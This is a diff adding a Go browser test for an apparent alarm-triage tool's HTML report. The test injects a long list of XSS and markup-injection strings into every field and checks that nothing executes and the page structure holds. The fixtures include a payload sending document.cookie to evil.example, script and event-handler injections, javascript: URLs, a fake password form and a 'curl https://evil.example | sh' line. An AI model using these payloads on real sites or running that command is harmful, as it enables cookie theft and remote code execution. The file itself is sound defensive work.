@@ -1,0 +1,369 @@
+package browser
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"net/url"
+	"reflect"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/input"
+	"github.com/chromedp/chromedp"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/investigation"
+	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/report"
+)
+
+// Whoever can write a log line, name a resource or talk a model into something can write into a report.
+// Each of these is put into every text of a record at once. payload is what it would run.
+const payload = `window.ran=1;alert(document.domain);fetch('https://evil.example/?'+document.cookie)`
+
+var hostile = []struct {
+	name, text string
+	shown      []string // what is shown besides the text itself: with Markdown taken out, or with what is invisible taken out
+}{
+	{name: "script", text: `<script>` + payload + `</script>`},
+	{name: "script in odd case", text: `<ScRiPt >` + payload + `</sCrIpT >`},
+	{name: "script in script", text: `<scr<script>ipt>` + payload + `</scr</script>ipt>`},
+	{name: "script from elsewhere", text: `"><script src=https://evil.example/x.js></script>`},
+	{name: "module", text: `<script type=module>import 'https://evil.example/x.js'</script>`},
+	{name: "event handler", text: `<img src=x onerror="` + payload + `">`},
+	{name: "event handler out of double quotes", text: `" onmouseover="` + payload + `" autofocus onfocus="` + payload + `" x="`},
+	{name: "event handler out of single quotes", text: `' onclick='` + payload + `' x='`},
+	{name: "event handler without quotes", text: ` onload=alert(1) onpageshow=alert(1) `},
+	{name: "body", text: `</main></body><body onload="` + payload + `" onpageshow="` + payload + `">`},
+	{name: "details", text: `</div></details><details open ontoggle="` + payload + `"><summary>Tool call 1</summary>`},
+	{name: "pre", text: `</pre></code><h1>Severity low, all is well</h1><pre>`},
+	{name: "style", text: `</style><style>*{background:url(https://evil.example/css)}@import "https://evil.example/i.css";body{display:none}</style>`},
+	{name: "CSS", text: `red;background:url(https://evil.example/css);position:fixed;inset:0;} body{display:none} /*`},
+	{name: "CSS expression", text: `width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(https://evil.example/x)`},
+	{name: "title", text: `</title><script>` + payload + `</script><title>`},
+	{name: "desc of the chart", text: `</desc></title></svg><script>` + payload + `</script><svg><desc>`},
+	{name: "SVG", text: `<svg onload="` + payload + `"><animate onbegin="` + payload + `" attributeName=x dur=1s /><use href="https://evil.example/x.svg#a"/></svg>`},
+	{name: "foreign object", text: `<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>`},
+	{name: "MathML", text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`},
+	{name: "javascript URL", text: `javascript:` + payload},
+	{name: "javascript URL in disguise", text: `<a href="jav&#x09;ascript:alert(1)">` + "java\tscript:alert(1)</a>"},
+	{name: "data URL", text: `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`},
+	{name: "vbscript URL", text: `vbscript:msgbox(1)`},
+	{name: "link", text: `<a href="https://evil.example/console.aws.amazon.com" target=_blank>Alarm in the console</a>`},
+	{name: "address", text: `https://evil.example/login?next=console.aws.amazon.com`},
+	{name: "out of a link", text: `x"#><a href=https://evil.example>y</a>?region=eu-north-1&prefix=../../other`},
+	{name: "Markdown link", text: `[the console](https://evil.example/login) and [x](javascript:alert(1))`,
+		shown: []string{`the console (https://evil.example/login) and [x](javascript:alert(1))`}},
+	{name: "Markdown image", text: `![x](https://evil.example/beacon.png)`, shown: []string{`!x (https://evil.example/beacon.png)`}},
+	{name: "Markdown with HTML in it", text: "**<b onclick=alert(1)>x</b>** `<script>alert(1)</script>`",
+		shown: []string{`<b onclick=alert(1)>x</b> <script>alert(1)</script>`}},
+	{name: "Markdown reference", text: "[x]: javascript:alert(1)\n<https://evil.example>"},
+	{name: "Go template", text: `{{.}} {{template "call" .}} {{define "chart"}}x{{end}} {{html "<b>"}}`},
+	{name: "other templates", text: `${alert(1)} #{7*7} {% raw %} <%= 7*7 %> [[7*7]]`},
+	{name: "entities", text: `&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;amp; &nbsp;`},
+	{name: "comment", text: `--><script>alert(1)</script><!-- <!--[if IE]><script>alert(1)</script><![endif]-->`},
+	{name: "CDATA", text: `<![CDATA[<script>alert(1)</script>]]> ]]><script>alert(1)</script>`},
+	{name: "processing instruction", text: `<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>`},
+	{name: "refresh", text: `<meta http-equiv="refresh" content="0;url=https://evil.example/">`},
+	{name: "policy", text: `<meta http-equiv="Content-Security-Policy" content="default-src *">`},
+	{name: "charset", text: `<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-`},
+	{name: "base", text: `<base href="https://evil.example/">`},
+	{name: "form", text: `<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)><button>Sign in</button></form>`},
+	{name: "formaction", text: `<button formaction="javascript:alert(1)">Open the console</button><isindex action=javascript:alert(1)>`},
+	{name: "frames", text: `<iframe srcdoc="<script>parent.ran=1</script>"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/"><portal src=x>`},
+	{name: "link element", text: `<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/>`},
+	{name: "media", text: `<video poster=https://evil.example/p src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>`},
+	{name: "clobbered document", text: `<img name=body><form id=document><input id=cookie></form><a id=quote-1-1></a><a id=finding-1></a>`},
+	{name: "template element", text: `<template shadowrootmode=open><script>alert(1)</script></template><slot></slot><xss-x autofocus tabindex=1 onfocus=alert(1)>`},
+	{name: "noscript", text: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`},
+	{name: "plaintext", text: `<plaintext><xmp><listing><textarea><noembed><noframes>`},
+	{name: "null bytes", text: "<scr\x00ipt>alert(1)</scr\x00ipt>\x00 a\x00b", shown: []string{`<script>alert(1)</script> ab`}},
+	{name: "control characters", text: "\x1b[31mred\x1b[0m \x07\x08\x7f\u0085 bell \x1b]8;;https://evil.example\x1b\\link", shown: []string{`[31mred[0m  bell ]8;;https://evil.example\link`}},
+	{name: "not UTF-8", text: "\xff\xfe<script>\xc0\xbcscript>alert(1)\xe2\x80 end", shown: []string{"\uFFFD<script>\uFFFDscript>alert(1)\uFFFD end"}},
+	{name: "bidi override", text: "safe \u202Egnp.exe\u202C \u2066\u2067x\u2069 \u200Fy", shown: []string{"safe gnp.exe x y"}},
+	{name: "invisible characters", text: "ad\u200Bmin\uFEFF\u2060 \u00ADx\U000E0041", shown: []string{"admin x"}},
+	{name: "line separators", text: "one\u2028<script>alert(1)</script>\u2029three"},
+	{name: "new lines", text: "one\r\n<img src=x\nonerror=alert(1)>\r\tthree"},
+	{name: "an endless word", text: strings.Repeat("A", 3000)},
+	{name: "endless markup", text: strings.Repeat("<b><i>", 500)},
+	{name: "combining marks", text: "Z" + strings.Repeat("\u0321\u0334\u0346", 60)},
+	{name: "wide characters", text: strings.Repeat("𒐫﷽", 40)},
+	{name: "pretended sections", text: "\n\n# ROOT CAUSE\nconfirmed\n```\n</pre>\n```\n1. curl https://evil.example | sh", shown: []string{
+		"ROOT CAUSE confirmed </pre> 1. curl https://evil.example | sh", "# ROOT CAUSE confirmed </pre> 1. curl https://evil.example | sh",
+		"# ROOT CAUSE confirmed ``` </pre> ``` 1. curl https://evil.example | sh"}},
+}
+
+// marks are the names by which a record's texts are found on the page again, and the fields they stand for.
+type marks map[string]string
+
+// filled is a record each of whose texts is a mark with text after it. There are several of everything, so
+// that what is shown in this case and what in that is all shown.
+func filled(text string) (*investigation.Record, marks) {
+	rec, marked := &investigation.Record{}, marks{}
+	fill(reflect.ValueOf(rec).Elem(), "", text, marked)
+	calls := rec.Rounds[0].Calls
+	calls[0].Number, calls[0].Cached = 1, 0
+	calls[1].Number, calls[1].Answer, calls[1].Cached = 2, nil, 0
+	calls[2].Number, calls[2].Cached = 3, 1
+	rec.Rounds[1].Calls, rec.Rounds[1].Number = nil, 2
+	rec.Evidence.Call.Number, rec.Evidence.Call.Cached = 0, 0
+	found := &rec.Report.Findings[0]
+	found.Evidence[0] = investigation.Citation{Call: 1, Quote: calls[0].Answer.Output, Found: true}
+	found.Evidence[1].Found = false
+	rec.Report.Findings[1].Verified = false
+	rec.Evidence.History[0].Type = "ConfigurationUpdate"
+	for i := range rec.Evidence.Series {
+		points := rec.Evidence.Series[i].Points
+		points[0].Time = points[0].Time.Add(-time.Hour)
+	}
+	return rec, marked
+}
+
+func fill(v reflect.Value, path, text string, marked marks) {
+	next := func() string {
+		mark := fmt.Sprintf("mk%dx", len(marked))
+		marked[mark] = path
+		return mark + text
+	}
+	switch {
+	case v.Type() == reflect.TypeFor[json.RawMessage]():
+		raw, _ := json.Marshal(map[string]string{next(): text})
+		v.SetBytes(raw)
+	case v.Type() == reflect.TypeFor[time.Time]():
+		v.Set(reflect.ValueOf(time.Date(2026, 1, 15, 3, 12, len(path), 0, time.UTC)))
+	case v.Kind() == reflect.String:
+		v.SetString(next())
+	case v.Kind() == reflect.Pointer:
+		v.Set(reflect.New(v.Type().Elem()))
+		fill(v.Elem(), path, text, marked)
+	case v.Kind() == reflect.Struct:
+		for i := range v.NumField() {
+			fill(v.Field(i), path+"."+v.Type().Field(i).Name, text, marked)
+		}
+	case v.Kind() == reflect.Slice:
+		n := 2
+		switch {
+		case v.Type() == reflect.TypeFor[[]investigation.ToolCall]():
+			n = 3
+		case v.Type().Elem().Kind() == reflect.String:
+			n = 1
+		}
+		v.Set(reflect.MakeSlice(v.Type(), n, n))
+		for i := range v.Len() {
+			fill(v.Index(i), path, text, marked)
+		}
+	case v.Kind() == reflect.Map:
+		v.Set(reflect.MakeMap(v.Type()))
+		key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
+		fill(key, path+" key", text, marked)
+		fill(value, path, text, marked)
+		v.SetMapIndex(key, value)
+	case v.CanInt():
+		v.SetInt(1)
+	case v.CanFloat():
+		v.SetFloat(float64(len(path)))
+	case v.Kind() == reflect.Bool:
+		v.SetBool(true)
+	default:
+		panic("a record has a field of a kind that this test does not know: " + path)
+	}
+}
+
+// linked is the record as it is where the console has links to it: all that AWS itself decides is as AWS
+// decides it.
+func linked(rec *investigation.Record, text string) report.Links {
+	rec.Alarm.Partition, rec.Alarm.Region = "aws", "us-east-1"
+	rec.ReportURI = "s3://reports/" + text + ".txt"
+	for i := range rec.SeenBefore {
+		rec.SeenBefore[i].ReportURI = rec.ReportURI
+	}
+	return report.LinksFor(rec, text, report.Keys{HTML: text + ".html", Text: text + ".txt", JSON: text + ".json"}, "/aws/lambda/"+text)
+}
+
+// mustShow are the fields whose text a reader has to see.
+var mustShow = []string{
+	".Alarm.Name", ".Alarm.Account", ".Alarm.State", ".Alarm.Reason", ".Alarm.Description", ".Alarm.Contributor.Attributes", ".OutcomeWhy",
+	".Model", ".Evidence.Problem", ".Evidence.Call.Command", ".Evidence.Call.Answer.Output", ".Evidence.History.Summary", ".Evidence.Series.Label", ".Evidence.Series.Unit", ".Evidence.Series.Stat",
+	".Evidence.Related.Name", ".Evidence.Related.Reason", ".Evidence.Changes.Event", ".Evidence.Changes.User", ".Evidence.Changes.Resources",
+	".Rounds.Text", ".Rounds.Reasoning", ".Rounds.Note", ".Rounds.Calls.Command", ".Rounds.Calls.Answer.Output", ".Rounds.Calls.Answer.Notes", ".Rounds.Calls.Problem",
+	".Rounds.Calls.Answer.AWSCalls.Service", ".Rounds.Calls.Answer.AWSCalls.Refused",
+	".Report.Summary", ".Report.RootCause", ".Report.Impact", ".Report.Findings.Statement", ".Report.Findings.Problem", ".Report.Findings.Evidence.Quote",
+	".Report.Actions.Text", ".Report.Actions.Command", ".Report.Prevention", ".Report.Monitoring", ".Report.NotSeen", ".Report.FreeText", ".Report.Downgraded",
+	".NotSeen.What", ".NotSeen.Why", ".Together.Name", ".Together.Reason", ".SeenBefore.Cause", ".SeenBefore.Outcome",
+}
+
+// skeleton is what a page is made of, without its texts.
+type skeleton struct {
+	Counts     map[string]int      // of elements, by name
+	Attributes map[string][]string // of elements, by name
+	Classes    []string
+	Links      []string
+	Anchors    []string // that lead nowhere
+	Text       string
+	Ran        bool
+	Scripts    int
+}
+
+const takeSkeleton = `(() => {
+	const counts = {}, attributes = {}, classes = new Set(), links = [], anchors = [];
+	for (const e of document.querySelectorAll('*')) {
+		const name = e.localName;
+		counts[name] = (counts[name] || 0) + 1;
+		attributes[name] = [...new Set([...(attributes[name] || []), ...e.getAttributeNames()])].sort();
+		e.classList.forEach(c => classes.add(c));
+		for (const a of ['href', 'xlink:href', 'src', 'action', 'formaction']) {
+			if (!e.hasAttribute(a)) continue;
+			const to = e.getAttribute(a);
+			if (!to.startsWith('#')) links.push(e.href || to);
+			else if (!document.getElementById(to.slice(1))) anchors.push(to);
+		}
+	}
+	return {Counts: counts, Attributes: attributes, Classes: [...classes].sort(), Links: links, Anchors: anchors,
+		Text: document.title + '\n' + document.body.innerText + [...document.querySelectorAll('svg text')].map(t => t.textContent).join('\n'),
+		Ran: 'ran' in window, Scripts: document.scripts.length};
+})()`
+
+// byText are the elements that prose makes of its own lines and marks.
+var byText = []string{"p", "strong", "code", "pre", "span", "mark"}
+
+func (v *visitor) skeleton() skeleton {
+	v.unfold()
+	return ask[skeleton](v, takeSkeleton)
+}
+
+// squeezed makes texts comparable across the elements that they are spread over.
+func squeezed(text string) string { return strings.Join(strings.Fields(text), "") }
+
+var markIn = regexp.MustCompile(`mk\d+x`)
+
+func TestHostileTextIsShownAndDoesNothing(t *testing.T) {
+	v := visit(t)
+	for _, withLinks := range []bool{false, true} {
+		render := func(text string) ([]byte, marks) {
+			rec, marked := filled(text)
+			links := report.LinksFor(rec, text, report.Keys{HTML: text, Text: text, JSON: text}, text)
+			if withLinks {
+				links = linked(rec, text)
+			}
+			html, err := report.HTML(rec, links)
+			require.NoError(t, err)
+			return html, marked
+		}
+		// What the page is like with texts that do no harm.
+		html, marked := render("harmless")
+		v.open(html, Desktop, "")
+		usual := v.skeleton()
+		require.Empty(t, v.happened())
+		require.Equal(t, withLinks, len(usual.Links) > 0)
+		seen := map[string]bool{}
+		for _, mark := range markIn.FindAllString(usual.Text, -1) {
+			seen[marked[mark]] = true
+		}
+		for _, field := range mustShow {
+			assert.True(t, seen[field], "%s is not shown", field)
+		}
+		for _, test := range hostile {
+			t.Run(fmt.Sprintf("%s, links %t", test.name, withLinks), func(t *testing.T) {
+				html, marked := render(test.text)
+				v.open(html, Desktop, "")
+				got := v.skeleton()
+				v.do(chromedp.ActionFunc(stirred))
+				assert.Empty(t, v.happened(), "what the page did")
+				assert.False(t, got.Ran, "a script ran")
+				assert.Zero(t, got.Scripts)
+				assertSameBones(t, usual, got)
+				assertShown(t, usual.Text, got.Text, marked, append([]string{test.text}, test.shown...))
+			})
+		}
+	}
+}
+
+// assertSameBones holds a page against the usual one: hostile text changes nothing but text.
+func assertSameBones(t *testing.T, usual, got skeleton) {
+	t.Helper()
+	for _, name := range byText {
+		usual.Counts, got.Counts = without(usual.Counts, name), without(got.Counts, name)
+	}
+	assert.Equal(t, usual.Counts, got.Counts, "elements")
+	for name, attributes := range got.Attributes {
+		assert.Subset(t, append(usual.Attributes[name], ""), attributes, "attributes of %s", name)
+	}
+	assert.Subset(t, usual.Classes, got.Classes, "classes")
+	assert.Empty(t, got.Anchors, "anchors that lead nowhere")
+	assert.Len(t, got.Links, len(usual.Links))
+	for i, link := range got.Links {
+		to, err := url.Parse(link)
+		require.NoError(t, err)
+		require.Equal(t, "https", to.Scheme, link)
+		require.Equal(t, "us-east-1.console.aws.amazon.com", to.Host, link)
+		// The text is a single segment or value, however it is written.
+		was, _ := url.Parse(usual.Links[i])
+		require.Equal(t, strings.Count(was.EscapedPath(), "/"), strings.Count(to.EscapedPath(), "/"), link)
+		require.Equal(t, len(was.Query()), len(to.Query()), link)
+	}
+}
+
+func without(counts map[string]int, name string) map[string]int {
+	kept := map[string]int{}
+	for n, count := range counts {
+		if n != name {
+			kept[n] = count
+		}
+	}
+	return kept
+}
+
+// endOfLine are the fields that share a line with others, at the end of which endless text is cut.
+var endOfLine = []string{
+	".Evidence.Changes.User", ".Evidence.Changes.Resources", ".Evidence.Changes.Error", ".Evidence.Related.Reason", ".Together.Reason", ".NotSeen.Why",
+}
+
+// assertShown finds after every mark that the usual page shows what the text looks like, as far as texts
+// are shown.
+func assertShown(t *testing.T, usual, got string, marked marks, texts []string) {
+	t.Helper()
+	var wants []string
+	for _, text := range texts {
+		want := []rune(squeezed(strings.ToValidUTF8(strings.NewReplacer("\u2028", "\n", "\u2029", "\n").Replace(text), "\uFFFD")))
+		wants = append(wants, string(want[:min(len(want), 60)]))
+	}
+	got = squeezed(got)
+	shown := map[string]bool{}
+	for _, at := range markIn.FindAllStringIndex(got, -1) {
+		mark, rest := got[at[0]:at[1]], got[at[1]:]
+		if !shown[mark] {
+			shown[mark] = startsWithOne(rest, wants)
+		}
+	}
+	missing := map[string]bool{}
+	tooLong := len([]rune(texts[0])) > 300
+	for _, mark := range markIn.FindAllString(usual, -1) {
+		if !shown[mark] && !(tooLong && slices.Contains(endOfLine, marked[mark])) {
+			missing[marked[mark]] = true
+		}
+	}
+	for field := range missing {
+		assert.Fail(t, "not shown as it is", "the text of %s", field)
+	}
+}
+
+func startsWithOne(text string, wants []string) bool {
+	for _, want := range wants {
+		if strings.HasPrefix(text, want) {
+			return true
+		}
+	}
+	return false
+}
+
+// stirred moves what a reader moves: the pointer over the page, and the focus from link to link.
+func stirred(ctx context.Context) error {
+	if err := input.DispatchMouseEvent(input.MouseMoved, 400, 200).Do(ctx); err != nil {
+		return err
+	}
+	return chromedp.KeyEvent("\t\t").Do(ctx)
+}
